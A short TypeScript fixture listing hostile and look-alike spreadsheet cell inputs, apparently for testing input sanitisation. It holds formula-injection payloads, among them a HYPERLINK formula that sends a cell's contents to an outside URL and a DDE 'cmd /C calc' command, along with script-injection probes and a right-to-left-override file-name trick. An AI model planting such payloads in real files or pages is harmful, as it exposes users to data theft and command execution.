/** What people put in a cell who mean no good, and what merely looks like it. */
export const HOSTILE: readonly string[] = [
  '=HYPERLINK("http://voorbeeld.nl?x="&A1;"klik")',
  '=1+1',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '\u202Egnp.exe',
  'naam\u0000met nul',
  `lang ${'x'.repeat(5_000)}`,
  '{=1+1}',
  '[#This Row]',
];
